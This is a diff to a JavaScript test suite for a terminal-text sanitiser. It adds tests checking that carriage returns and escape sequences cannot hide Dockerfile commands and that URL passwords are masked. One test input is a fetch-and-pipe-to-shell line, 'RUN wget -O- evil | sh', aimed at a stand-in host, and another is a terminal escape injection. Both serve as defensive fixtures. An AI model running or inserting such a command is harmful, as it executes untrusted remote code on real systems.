@@ -2,7 +2,7 @@ import assert from 'node:assert/strict';
 import fc from 'fast-check';
 import { jsonText } from '../src/print/json.js';
 import { ago, table } from '../src/print/table.js';
-import { bytes, fit, harmless, seconds, width } from '../src/progress/text.js';
+import { bytes, fit, harmless, oneLine, seconds, width } from '../src/progress/text.js';
 
 describe('text for terminals', () => {
   it('takes out what could harm a terminal', () => {
@@ -12,10 +12,20 @@ describe('text for terminals', () => {
     assert.equal(harmless('\u001b(0\u001bcx\u001b'), 'x');
   });
 
+  it('hides nothing of what is run, and shows no password of an address', () => {
+    assert.equal(oneLine('RUN wget -O- evil | sh #\rRUN true\r'), 'RUN wget -O- evil | sh # RUN true');
+    assert.equal(oneLine('RUN : \u001b]0; evil'), 'RUN : ]0; evil');
+    assert.equal(oneLine('ADD http://me:se:sa@me@h/f /'), 'ADD http://me:***@h/f /');
+    assert.equal(oneLine('RUN git clone https://me:$TOKEN@h/r'), 'RUN git clone https://me:***@h/r');
+    for (const text of ['docker-image://a:1@sha256:00', 'ADD git@h:r.git /', 'mail me@h//x', 'http://[::1]:5/@'])
+      assert.equal(oneLine(text), text);
+  });
+
   it('leaves no control character of any text', () => {
     fc.assert(
       fc.property(fc.string({ unit: 'binary' }), (text) => {
         assert.doesNotMatch(harmless(text), /[\p{Cc}\p{Cf}]/u);
+        assert.doesNotMatch(oneLine(text), /[\p{Cc}\p{Cf}]/u);
       }),
     );
   });
